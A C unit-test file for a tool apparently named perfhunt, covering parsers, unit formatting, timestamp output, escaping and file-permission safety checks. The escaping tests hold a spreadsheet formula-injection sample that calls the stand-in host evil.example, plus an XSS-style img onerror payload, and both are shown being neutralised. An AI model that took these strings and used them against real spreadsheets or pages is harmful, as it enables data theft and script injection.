/* Unit tests of src/util: strict parsing, durations, human units, errors. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <string.h>
#include <errno.h>
#include <cmocka.h>

#include <fcntl.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include "util/clock.h"
#include "util/err.h"
#include "util/escape.h"
#include "util/fsafe.h"
#include "util/parse.h"
#include "util/strindex.h"
#include "util/units.h"

static void test_parse_i64(void **state)
{
	(void)state;
	struct err e = { 0 };
	int64_t v;
	assert_int_equal(parse_i64("100", 1, 1000, &v, "--interval", &e), 0);
	assert_int_equal(v, 100);
	assert_int_equal(parse_i64("0", 1, 1000, &v, "--interval", &e), -1);
	assert_string_equal(e.msg, "--interval: 0 is out of range [1, 1000]");
	assert_int_equal(parse_i64("12abc", 1, 1000, &v, "--interval", &e), -1);
	assert_string_equal(e.msg, "--interval: expected an integer, got '12abc'");
	assert_int_equal(parse_i64("", 1, 1000, &v, "-n", &e), -1);
	assert_int_equal(parse_i64(" 5", 1, 1000, &v, "-n", &e), -1);
	assert_int_equal(parse_i64("99999999999999999999", 1, INT64_MAX, &v, "-n", &e), -1);
	assert_int_equal(parse_i64("-5", -10, 10, &v, "x", &e), 0);
	assert_int_equal(v, -5);
}

static void test_parse_double(void **state)
{
	(void)state;
	double d;
	struct err e = { 0 };
	assert_int_equal(parse_double("2.5", 0, 100, &d, "--threshold", &e), 0);
	assert_true(d == 2.5);
	assert_int_equal(parse_double("nan", 0, 100, &d, "--threshold", &e), -1);
	assert_int_equal(parse_double("inf", 0, 1e300, &d, "--threshold", &e), -1);
	assert_int_equal(parse_double("-1", 0, 100, &d, "--threshold", &e), -1);
}

static void test_parse_duration(void **state)
{
	(void)state;
	double ms;
	struct err e = { 0 };
	assert_int_equal(parse_duration_ms("250ms", 1000, &ms, "--duration", &e), 0);
	assert_true(ms == 250);
	assert_int_equal(parse_duration_ms("1.5", 1000, &ms, "--duration", &e), 0);
	assert_true(ms == 1500);
	assert_int_equal(parse_duration_ms("2m", 1000, &ms, "--duration", &e), 0);
	assert_true(ms == 120000);
	assert_int_equal(parse_duration_ms("1h", 1000, &ms, "--duration", &e), 0);
	assert_true(ms == 3600000);
	assert_int_equal(parse_duration_ms("3 parsecs", 1000, &ms, "--duration", &e), -1);
	assert_int_equal(parse_duration_ms("-1s", 1000, &ms, "--duration", &e), -1);
	assert_int_equal(parse_duration_ms("", 1000, &ms, "--duration", &e), -1);
}

static void test_parse_u64_at(void **state)
{
	(void)state;
	const char *s = "12345 rest";
	const char *p = s;
	uint64_t v;
	assert_true(parse_u64_at(&p, s + strlen(s), &v));
	assert_int_equal(v, 12345);
	assert_ptr_equal(p, s + 5);
	assert_false(parse_u64_at(&p, s + strlen(s), &v));
	const char *big = "999999999999999999999999";
	p = big;
	assert_true(parse_u64_at(&p, big + strlen(big), &v));
	assert_true(v == UINT64_MAX);
}

static void test_units(void **state)
{
	(void)state;
	char b[32];
	assert_string_equal(units_kb(512, b, sizeof b), "512 KiB");
	/* not a figure: a dash, never "-inf h" */
	assert_string_equal(units_ms(-INFINITY, b, sizeof b), "-");
	assert_string_equal(units_kb(NAN, b, sizeof b), "-");
	assert_string_equal(units_count(INFINITY, b, sizeof b), "-");
	assert_string_equal(units_kb(1536, b, sizeof b), "1.50 MiB");
	assert_string_equal(units_kb(212987468, b, sizeof b), "203.12 GiB");
	assert_string_equal(units_ms(0.5, b, sizeof b), "500 µs");
	assert_string_equal(units_ms(12.34, b, sizeof b), "12.3 ms");
	assert_string_equal(units_ms(5733, b, sizeof b), "5.733 s");
	assert_string_equal(units_ms(94400, b, sizeof b), "1 min 34 s");
	assert_string_equal(units_ms(3720000, b, sizeof b), "1 h 02 min");
	assert_string_equal(units_ms(1e300, b, sizeof b), "2.78e+293 h"); /* no int overflow */
	/* shortest round trip: 15 digits where they read back, 17 where needed */
	assert_string_equal(units_shortest(0.218883, b, sizeof b), "0.218883");
	assert_string_equal(units_shortest(0.1 + 0.2, b, sizeof b), "0.30000000000000004");
	assert_string_equal(units_shortest(100000000, b, sizeof b), "100000000");
	assert_string_equal(units_shortest(-0.001, b, sizeof b), "-0.001");
	assert_string_equal(units_shortest(NAN, b, sizeof b), "NaN");
	assert_string_equal(units_shortest(-INFINITY, b, sizeof b), "-Inf");
	assert_true(strtod(units_shortest(1.0 / 3, b, sizeof b), NULL) == 1.0 / 3);
}

/* RFC 3339 from epoch ms, before 1970 too: the milliseconds are floored, never
 * negative ("23:59:51.-27Z" was written for a clock set to 1969). */
static void test_clock_format(void **state)
{
	(void)state;
	char buf[64];
	clock_format_rfc3339(0, buf, sizeof(buf));
	assert_string_equal(buf, "1970-01-01T00:00:00.000Z");
	clock_format_rfc3339(1796026351123, buf, sizeof(buf));
	assert_string_equal(buf, "2026-11-30T08:12:31.123Z");
	clock_format_rfc3339(-9027, buf, sizeof(buf));
	assert_string_equal(buf, "1969-12-31T23:59:50.973Z");
	clock_format_rfc3339(-1, buf, sizeof(buf));
	assert_string_equal(buf, "1969-12-31T23:59:59.999Z");
	clock_format_rfc3339(-1000, buf, sizeof(buf));
	assert_string_equal(buf, "1969-12-31T23:59:59.000Z");
}

static void test_err(void **state)
{
	(void)state;
	struct err e = { 0 };
	errno = ENOENT;
	assert_int_equal(err_sys(&e, "cannot open '%s'", "x.csv"), -1);
	assert_string_equal(e.msg, "cannot open 'x.csv': No such file or directory");
	assert_int_equal(err_wrap(&e, "reading history"), -1);
	assert_string_equal(e.msg, "reading history: cannot open 'x.csv': No such file or directory");
	assert_int_equal(err_set(NULL, "ignored %d", 1), -1);
}

/* A struct stat as lstat would fill it: the rules read only type, mode, owner. */
static struct stat fake_stat(mode_t mode, uid_t uid, gid_t gid)
{
	struct stat st;
	memset(&st, 0, sizeof(st));
	st.st_mode = mode;
	st.st_uid = uid;
	st.st_gid = gid;
	return st;
}

static const char *csv(const char *in)
{
	static char out[256];
	assert_true(ESCAPE_CSV_BYTES(strlen(in)) <= sizeof(out));
	size_t n = escape_csv(out, in);
	assert_int_equal(n, strlen(out));
	return out;
}

static void test_escape_csv(void **state)
{
	(void)state;
	assert_string_equal(csv(""), "");
	assert_string_equal(csv("load"), "load");
	assert_string_equal(csv("a,b"), "\"a,b\"");
	assert_string_equal(csv("a,b,\"c"), "\"a,b,\"\"c\"");
	assert_string_equal(csv("two\nlines\r"), "\"two\nlines\r\"");
	/* what a spreadsheet would evaluate: quoted, with a ' first (OWASP) */
	assert_string_equal(csv("=HYPERLINK(\"http://evil.example/?x\",A1)"),
			    "\"'=HYPERLINK(\"\"http://evil.example/?x\"\",A1)\"");
	assert_string_equal(csv("+cmd"), "\"'+cmd\"");
	assert_string_equal(csv("-2+3"), "\"'-2+3\"");
	assert_string_equal(csv("@SUM(A1)"), "\"'@SUM(A1)\"");
	assert_string_equal(csv("\tx"), "\"'\tx\"");
	assert_string_equal(csv("\rx"), "\"'\rx\"");
	assert_string_equal(csv("-"), "\"'-\"");
	assert_string_equal(csv("-1."), "\"'-1.\"");
	/* a plain number is a value, not a formula */
	assert_string_equal(csv("-1.5"), "-1.5");
	assert_string_equal(csv("+2"), "+2");
	assert_string_equal(csv("a=b"), "a=b");
	/* the worst case fills ESCAPE_CSV_BYTES exactly */
	char in[9] = "=\"\"\"\"\"\"\"", out[ESCAPE_CSV_BYTES(8)];
	assert_int_equal(escape_csv(out, in), sizeof(out) - 1);
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	char big[400];
	memset(big, ',', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	assert_true(escape_csv_fputs(big, f) >= 0);
	fclose(f);
	assert_int_equal(len, sizeof(big) + 1);
	free(buf);
}

static char *md(void (*fn)(const char *, FILE *), const char *in)
{
	static char *buf;
	size_t len = 0;
	free(buf);
	buf = NULL;
	FILE *f = open_memstream(&buf, &len);
	fn(in, f);
	fclose(f);
	return buf;
}

static void test_escape_markdown(void **state)
{
	(void)state;
	assert_string_equal(md(escape_markdown, "wall_s"), "wall_s");
	assert_string_equal(md(escape_markdown, "phase:step"), "phase:step");
	assert_string_equal(md(escape_markdown, "<img/src=x onerror=alert(1)>"),
			    "&lt;img/src=x onerror=alert(1)&gt;");
	assert_string_equal(md(escape_markdown, "a|b\\c&d"), "a\\|b\\\\c&amp;d");
	assert_string_equal(md(escape_markdown, "![x](http://e.example)"), "!\\[x\\](http://e.example)");
	assert_string_equal(md(escape_markdown, "**b** `c` ~~s~~"), "\\*\\*b\\*\\* \\`c\\` \\~\\~s\\~\\~");
	assert_string_equal(md(escape_markdown, "_em_ snake_case _"), "\\_em\\_ snake_case \\_");
	assert_string_equal(md(escape_markdown, "two\nlines\r\x1b"), "two lines  ");
	assert_string_equal(md(escape_markdown, "\u00a0\u00a0nested"), "\u00a0\u00a0nested");
	assert_string_equal(md(escape_markdown_code, "a|b `c` <d>\n"), "a\\|b 'c' <d> ");
}

static void test_escape_frame(void **state)
{
	(void)state;
	const char *in[] = { "x;main;fake", "100%", "a\nb\r", "plain+nested", "%3B", "" };
	const char *want[] = { "x%3Bmain%3Bfake", "100%25", "a%0Ab%0D", "plain+nested", "%253B", "" };
	for (size_t i = 0; i < sizeof(in) / sizeof(in[0]); i++) {
		char out[64], back[64];
		assert_int_equal(escape_frame(out, in[i]), strlen(want[i]));
		assert_string_equal(out, want[i]);
		size_t n = strlen(out);
		assert_int_equal(escape_frame_decode(back, out, n), strlen(in[i]));
		assert_string_equal(back, in[i]);
	}
	char back[16];
	/* a '%' without two hex digits is itself */
	assert_int_equal(escape_frame_decode(back, "a%4", 3), 3);
	assert_string_equal(back, "a%4");
	assert_int_equal(escape_frame_decode(back, "%zz%41", 6), 4);
	assert_string_equal(back, "%zzA");
}

static void test_fsafe_problem(void **state)
{
	(void)state;
	char why[192];
	uid_t me = geteuid();
	gid_t mine = getegid();
	/* a group nobody here is in */
	gid_t other_gid = 54321;
	uid_t other_uid = me == 54321 ? 54322 : 54321;
	struct stat st = fake_stat(S_IFDIR | 0755, me, mine);
	assert_null(fsafe_problem(&st, FSAFE_TRUSTED, why, sizeof(why)));
	st = fake_stat(S_IFDIR | 0755, 0, 0); /* root's: trusted */
	assert_null(fsafe_problem(&st, FSAFE_TRUSTED, why, sizeof(why)));
	st = fake_stat(S_IFDIR | 0755, other_uid, other_gid);
	assert_non_null(fsafe_problem(&st, FSAFE_TRUSTED, why, sizeof(why)));
	assert_non_null(strstr(why, "not by you or root"));
	st = fake_stat(S_IFDIR | 0777, me, mine);
	assert_non_null(fsafe_problem(&st, FSAFE_TRUSTED, why, sizeof(why)));
	assert_string_equal(why, "writable by other users (mode 0777)");
	/* /tmp: sticky is enough above the file, not beside an SQLite database */
	st = fake_stat(S_IFDIR | 01777, 0, 0);
	assert_null(fsafe_problem(&st, FSAFE_TRUSTED, why, sizeof(why)));
	assert_non_null(fsafe_problem(&st, FSAFE_TRUSTED_NO_STICKY, why, sizeof(why)));
	assert_non_null(strstr(why, "mode 1777; sticky"));
	/* group write: fine for a group we are in, not for another */
	st = fake_stat(S_IFDIR | 0775, me, mine);
	assert_null(fsafe_problem(&st, FSAFE_TRUSTED, why, sizeof(why)));
	st = fake_stat(S_IFDIR | 0775, me, other_gid);
	assert_non_null(fsafe_problem(&st, FSAFE_TRUSTED, why, sizeof(why)));
	/* a regular file others may write; a device is everyone's by design */
	st = fake_stat(S_IFREG | 0666, me, mine);
	assert_non_null(fsafe_problem(&st, FSAFE_TRUSTED, why, sizeof(why)));
	st = fake_stat(S_IFCHR | 0666, 0, 0);
	assert_null(fsafe_problem(&st, FSAFE_TRUSTED, why, sizeof(why)));
	/* a link: only its owner counts */
	st = fake_stat(S_IFLNK | 0777, me, mine);
	assert_null(fsafe_problem(&st, FSAFE_TRUSTED, why, sizeof(why)));
	st = fake_stat(S_IFLNK | 0777, other_uid, other_gid);
	assert_non_null(fsafe_problem(&st, FSAFE_TRUSTED, why, sizeof(why)));
	/* private: ours, not a link, no bits for anyone else */
	st = fake_stat(S_IFDIR | 0700, me, mine);
	assert_null(fsafe_problem(&st, FSAFE_PRIVATE, why, sizeof(why)));
	st = fake_stat(S_IFDIR | 0750, me, mine);
	assert_non_null(fsafe_problem(&st, FSAFE_PRIVATE, why, sizeof(why)));
	assert_string_equal(why, "open to other users (mode 0750)");
	st = fake_stat(S_IFLNK | 0777, me, mine);
	assert_string_equal(fsafe_problem(&st, FSAFE_PRIVATE, why, sizeof(why)), "a symbolic link");
	/* under sudo, root trusts the user who ran it, and only that user */
	if (me == 0) {
		setenv("SUDO_UID", "54321", 1);
		assert_true(fsafe_uid_trusted(54321));
		assert_false(fsafe_uid_trusted(54322));
		setenv("SUDO_UID", "54321x", 1);
		assert_false(fsafe_uid_trusted(54321));
		unsetenv("SUDO_UID");
	}
	assert_false(fsafe_uid_trusted(other_uid));
}

static char fs_tmp[64];

static void fs_path(char *buf, size_t n, const char *name)
{
	snprintf(buf, n, "%s/%s", fs_tmp, name);
}

static void test_fsafe_check_path(void **state)
{
	(void)state;
	char dir[128], path[160], link[160], entry[4096];
	struct err e = { 0 };
	strcpy(fs_tmp, "/tmp/perfhunt-fsafe.XXXXXX");
	assert_non_null(mkdtemp(fs_tmp));
	/* absent entries are fine: only what exists can be someone else's */
	fs_path(path, sizeof(path), "no/such/file");
	assert_int_equal(fsafe_check_path(path, FSAFE_TRUSTED_NO_STICKY, entry, sizeof(entry), &e), 0);
	/* an open directory on the way is named */
	fs_path(dir, sizeof(dir), "open");
	assert_int_equal(mkdir(dir, 0700), 0);
	assert_int_equal(chmod(dir, 0777), 0);
	fs_path(path, sizeof(path), "open/sub/file");
	assert_int_equal(fsafe_check_path(path, FSAFE_TRUSTED, entry, sizeof(entry), &e), -1);
	char want[256];
	snprintf(want, sizeof(want), "'%s' is writable by other users (mode 0777)", dir);
	assert_string_equal(e.msg, want);
	assert_string_equal(entry, dir);
	/* $PERFHUNT_SAFE_DIRECTORY vouches for a tree: whole components only,
	 * in a ':' list, or '*' for everything */
	setenv("PERFHUNT_SAFE_DIRECTORY", dir, 1);
	assert_int_equal(fsafe_check_path(path, FSAFE_TRUSTED, entry, sizeof(entry), &e), 0);
	snprintf(want, sizeof(want), "/nowhere:%s/", dir);
	setenv("PERFHUNT_SAFE_DIRECTORY", want, 1);
	assert_int_equal(fsafe_check_path(path, FSAFE_TRUSTED, entry, sizeof(entry), &e), 0);
	snprintf(want, sizeof(want), "%.*s", (int)strlen(dir) - 1, dir); /* ".../ope" */
	setenv("PERFHUNT_SAFE_DIRECTORY", want, 1);
	assert_int_equal(fsafe_check_path(path, FSAFE_TRUSTED, entry, sizeof(entry), &e), -1);
	setenv("PERFHUNT_SAFE_DIRECTORY", "relative/open", 1);
	assert_int_equal(fsafe_check_path(path, FSAFE_TRUSTED, entry, sizeof(entry), &e), -1);
	setenv("PERFHUNT_SAFE_DIRECTORY", "*", 1);
	assert_int_equal(fsafe_check_path(path, FSAFE_TRUSTED, entry, sizeof(entry), &e), 0);
	unsetenv("PERFHUNT_SAFE_DIRECTORY");
	/* sticky: fine above, refused as the holder under NO_STICKY */
	assert_int_equal(chmod(dir, 01777), 0);
	assert_int_equal(fsafe_check_path(path, FSAFE_TRUSTED_NO_STICKY, entry, sizeof(entry), &e), 0);
	fs_path(path, sizeof(path), "open/file");
	assert_int_equal(fsafe_check_path(path, FSAFE_TRUSTED, entry, sizeof(entry), &e), 0);
	assert_int_equal(fsafe_check_path(path, FSAFE_TRUSTED_NO_STICKY, entry, sizeof(entry), &e), -1);
	/* through a link of ours into the open directory: the resolved path is
	 * checked too */
	assert_int_equal(chmod(dir, 0777), 0);
	fs_path(link, sizeof(link), "tolink");
	assert_int_equal(symlink(dir, link), 0);
	fs_path(path, sizeof(path), "tolink/file");
	assert_int_equal(fsafe_check_path(path, FSAFE_TRUSTED, entry, sizeof(entry), &e), -1);
	assert_non_null(strstr(e.msg, "/open' is writable by other users"));
	/* relative paths are checked from the current directory */
	char cwd[4096];
	assert_non_null(getcwd(cwd, sizeof(cwd)));
	assert_int_equal(chdir(fs_tmp), 0);
	assert_int_equal(fsafe_check_path("open/x", FSAFE_TRUSTED, entry, sizeof(entry), &e), -1);
	assert_int_equal(fsafe_check_path("x.csv", FSAFE_TRUSTED, entry, sizeof(entry), &e), 0);
	assert_int_equal(chdir(cwd), 0);
	if (geteuid() == 0) { /* another user's link: refused, whoever it points at */
		fs_path(link, sizeof(link), "theirs");
		assert_int_equal(symlink("/etc/hostname", link), 0);
		assert_int_equal(lchown(link, 65534, 65534), 0);
		assert_int_equal(fsafe_check_path(link, FSAFE_TRUSTED, entry, sizeof(entry), &e), -1);
		assert_non_null(strstr(e.msg, "theirs' is owned by"));
	}
}

static void test_fsafe_open_stream(void **state)
{
	(void)state;
	char path[160], planted[160], hard[160];
	struct err e = { 0 };
	int fd;
	bool regular;
	/* new: created 0644 (umask aside) */
	fs_path(path, sizeof(path), "new.csv");
	mode_t old = umask(0);
	assert_int_equal(fsafe_open_stream(path, &fd, &regular, &e), 0);
	umask(old);
	assert_true(regular);
	struct stat st;
	assert_int_equal(fstat(fd, &st), 0);
	assert_int_equal(st.st_mode & 0777, 0644);
	assert_int_equal(write(fd, "kept\n", 5), 5);
	close(fd);
	/* existing: opened, not cut (the caller cuts once it holds its lock) */
	assert_int_equal(fsafe_open_stream(path, &fd, &regular, &e), 0);
	assert_int_equal(fstat(fd, &st), 0);
	assert_int_equal(st.st_size, 5);
	close(fd);
	/* a device is written in place */
	assert_int_equal(fsafe_open_stream("/dev/null", &fd, &regular, &e), 0);
	assert_false(regular);
	close(fd);
	/* other names for the same file: refused */
	fs_path(hard, sizeof(hard), "hard.csv");
	assert_int_equal(link(path, hard), 0);
	assert_int_equal(fsafe_open_stream(hard, &fd, &regular, &e), -1);
	assert_non_null(strstr(e.msg, "has 2 hard links"));
	assert_int_equal(unlink(hard), 0);
	/* a directory: the system's own error */
	assert_int_equal(fsafe_open_stream(fs_tmp, &fd, &regular, &e), -1);
	assert_non_null(strstr(e.msg, "Is a directory"));
	if (geteuid() == 0) { /* a link another user planted: refused, target intact */
		fs_path(planted, sizeof(planted), "planted.csv");
		assert_int_equal(symlink(path, planted), 0);
		assert_int_equal(lchown(planted, 65534, 65534), 0);
		assert_int_equal(fsafe_open_stream(planted, &fd, &regular, &e), -1);
		assert_non_null(strstr(e.msg, "refusing to write"));
		assert_non_null(strstr(e.msg, "planted.csv' is owned by"));
		assert_int_equal(stat(path, &st), 0);
		assert_int_equal(st.st_size, 5);
	}
	char cmd[128];
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", fs_tmp);
	assert_int_equal(system(cmd), 0);
}

/* Under sudo, what perfhunt makes in the user's directory becomes theirs;
 * a hard link or a symbolic link put in its place never does. */
static void test_fsafe_sudo_adopt(void **state)
{
	(void)state;
	if (geteuid() != 0) {
		skip();
		return;
	}
	char dir[128], made[160], linked[160], other[160], sym[160];
	struct stat st;
	strcpy(fs_tmp, "/tmp/perfhunt-adopt.XXXXXX");
	assert_non_null(mkdtemp(fs_tmp));
	fs_path(dir, sizeof(dir), "user");
	assert_int_equal(mkdir(dir, 0755), 0);
	assert_int_equal(chown(dir, 65534, 65534), 0);
	snprintf(made, sizeof(made), "%s/.perfhunt", dir);
	snprintf(linked, sizeof(linked), "%s/linked", dir);
	snprintf(other, sizeof(other), "%s/other", fs_tmp);
	snprintf(sym, sizeof(sym), "%s/sym", dir);
	assert_int_equal(mkdir(made, 0700), 0);
	int fd = open(other, O_WRONLY | O_CREAT | O_EXCL, 0600);
	assert_true(fd >= 0);
	close(fd);
	assert_int_equal(link(other, linked), 0);
	assert_int_equal(symlink(other, sym), 0);
	unsetenv("SUDO_UID");
	fsafe_sudo_adopt(made); /* not under sudo: nothing */
	assert_int_equal(stat(made, &st), 0);
	assert_int_equal(st.st_uid, 0);
	setenv("SUDO_UID", "65534", 1);
	setenv("SUDO_GID", "65534", 1);
	fsafe_sudo_adopt(made);
	fsafe_sudo_adopt(linked);
	fsafe_sudo_adopt(sym);
	assert_int_equal(stat(made, &st), 0);
	assert_int_equal(st.st_uid, 65534);
	assert_int_equal(st.st_gid, 65534);
	assert_int_equal(stat(other, &st), 0); /* through neither link */
	assert_int_equal(st.st_uid, 0);
	assert_int_equal(lstat(sym, &st), 0);
	assert_int_equal(st.st_uid, 0);
	unsetenv("SUDO_UID");
	unsetenv("SUDO_GID");
	char cmd[128];
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", fs_tmp);
	assert_int_equal(system(cmd), 0);
}

/* 20 000 keys through several doublings: each found with its value, the
 * empty string a key like any other, absent keys NONE. */
static void test_strindex(void **state)
{
	(void)state;
	enum { N = 20000 };
	static char keys[N][16];
	struct strindex x = { 0 };
	assert_int_equal(strindex_get(&x, "a"), STRINDEX_NONE);
	for (size_t i = 0; i < N; i++) {
		if (i) /* keys[0] stays "" */
			snprintf(keys[i], sizeof(keys[i]), "k%zu", i);
		strindex_put(&x, keys[i], 3 * i);
	}
	assert_int_equal(x.n, N);
	assert_true(x.cap >= 2 * N);
	for (size_t i = 0; i < N; i++) {
		char probe[16]; /* another copy of the key: found by its text, not its address */
		memcpy(probe, keys[i], sizeof(probe));
		assert_int_equal(strindex_get(&x, probe), 3 * i);
	}
	assert_int_equal(strindex_get(&x, "k20000"), STRINDEX_NONE);
	assert_int_equal(strindex_get(&x, "k1 "), STRINDEX_NONE);
	strindex_release(&x);
	assert_int_equal(strindex_get(&x, "k1"), STRINDEX_NONE);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_parse_i64),
		cmocka_unit_test(test_parse_double),
		cmocka_unit_test(test_parse_duration),
		cmocka_unit_test(test_parse_u64_at),
		cmocka_unit_test(test_units),
		cmocka_unit_test(test_clock_format),
		cmocka_unit_test(test_err),
		cmocka_unit_test(test_escape_csv),
		cmocka_unit_test(test_escape_markdown),
		cmocka_unit_test(test_escape_frame),
		cmocka_unit_test(test_fsafe_problem),
		cmocka_unit_test(test_fsafe_check_path),
		cmocka_unit_test(test_fsafe_open_stream),
		cmocka_unit_test(test_fsafe_sudo_adopt),
		cmocka_unit_test(test_strindex),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
